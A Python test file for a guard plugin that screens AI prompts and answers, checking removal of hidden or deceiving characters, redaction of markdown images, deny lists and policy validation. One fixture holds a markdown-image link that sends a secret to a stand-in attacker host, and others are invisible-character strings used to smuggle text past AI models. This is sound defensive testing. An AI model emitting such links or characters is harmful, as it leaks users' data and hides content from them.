"""The plugin in a guard: what is refused, what is replaced, and what the policy may say of it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from pydantic import ValidationError

import bartizan_validation
from bartizan import Blocked, Guard, PolicyError
from bartizan_validation import Config, Validation

if TYPE_CHECKING:
    from pathlib import Path


def guard(**config: object) -> Guard:
    return Guard(plugins=[Validation(Config.model_validate(config))])


def streamed(made: Guard, text: str, size: int = 1) -> str:
    return "".join(made.stream_response(iter([text[i : i + size] for i in range(0, len(text), size)])))


def test_prompts_with_deceiving_characters_are_refused() -> None:
    for text in ("a\x00b", "a\x1b[31mb", "a\u200bb", "a\u202eb", "a\U000e0041b"):
        verdict = guard().pre_prompt(text)
        with pytest.raises(Blocked):
            verdict.raise_if_blocked()
    assert guard().pre_prompt("fine 👨\u200d👩\u200d👧").text == "fine 👨\u200d👩\u200d👧"


def test_answers_have_them_replaced() -> None:
    answer = "se\u200bcret \x1b[31mred\x07 \u202ex 👨\u200d👩\u200d👧"
    wanted = "se\ufffdcret \ufffdred\ufffd \ufffdx 👨\u200d👩\u200d👧"
    assert guard().post_response(answer).text == wanted
    assert streamed(guard(), answer) == wanted


def test_images_in_answers_are_redacted_and_prompts_keep_theirs() -> None:
    text = "Done. ![x](https://evil.example/?q=SECRET) [docs](https://docs.example)"
    wanted = "Done. <MARKDOWN_IMAGE> [docs](https://docs.example)"
    assert guard().post_response(text).text == wanted
    assert [streamed(guard(), text, size) for size in (1, 2, 7, 100)] == [wanted] * 4
    assert guard().pre_prompt(text).text == text
    assert guard(allowed_hosts=["evil.example"]).post_response(text).text == text


def test_denied_patterns_are_refused_both_ways() -> None:
    made = guard(deny_list=["blue ?bird"])
    assert made.pre_prompt("on BlueBird").blocked
    assert made.post_response("on BlueBird").blocked
    out = []
    with pytest.raises(Blocked):
        out.extend(made.stream_response(iter("on " * 200 + "BlueBird")))
    assert "B" not in "".join(out)


def test_long_prompts_are_refused_with_the_numbers() -> None:
    verdict = guard(max_chars=10).pre_prompt("x" * 11)
    assert verdict.blocked
    assert "11 characters, at most 10" in verdict.explain()


def test_the_policy_may_soften_by_label_and_group(tmp_path: Path) -> None:
    (tmp_path / "p.toml").write_text(
        '[guard]\nplugins = ["validation"]\n'
        '[plugins.validation]\nactions = { INVISIBLE_CHARACTER = "redact", markdown = "note" }\n',
        encoding="utf-8",
    )
    made = Guard.from_file(tmp_path / "p.toml")
    assert made.pre_prompt("a\u200bb").text == "a\ufffdb"
    assert made.post_response("![x](//evil.example)").text == "![x](//evil.example)"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("max_char = 5", "did you mean 'max_chars'"),
        ('deny_list = ["a*"]', "deny_list"),
        ('allowed_scripts = ["latin"]', "did you mean 'Latin'"),
        ('allowed_hosts = ["https://a.example"]', "without scheme"),
        ('max_chars = "5"', "max_chars"),
        ('response_schema = "gone.json"', "gone.json: can't be read"),
        ('actions = { DENIED_PATTERN = "note" }', "no label or group"),
    ],
)
def test_a_wrong_policy_is_refused_with_its_reason(tmp_path: Path, line: str, reason: str) -> None:
    (tmp_path / "p.toml").write_text(f'[guard]\nplugins = ["validation"]\n[plugins.validation]\n{line}\n', encoding="utf-8")
    with pytest.raises(PolicyError, match=reason):
        Guard.from_file(tmp_path / "p.toml")


def test_the_schema_is_found_beside_the_policy(tmp_path: Path) -> None:
    (tmp_path / "s.json").write_text('{"type": "array"}', encoding="utf-8")
    (tmp_path / "p.toml").write_text(
        '[guard]\nplugins = ["validation"]\n[plugins.validation]\nresponse_schema = "s.json"\n', encoding="utf-8"
    )
    made = Guard.from_file(tmp_path / "p.toml")
    assert made.post_response("[]").text == "[]"
    assert "$: type" in made.post_response("{}").explain()


def test_every_label_is_exported_and_in_a_group() -> None:
    exported = {name for name in bartizan_validation.__all__ if name.isupper()}
    assert all(getattr(bartizan_validation, name) == name for name in exported)
    assert exported == set().union(*Validation().groups.values())


def test_the_configuration_is_closed_and_frozen() -> None:
    with pytest.raises(ValidationError):
        Config.model_validate({"unknown": 1})
    with pytest.raises(ValidationError):
        Config().max_chars = 5  # type: ignore[misc]
    assert "Validation(labels=" in repr(Validation())
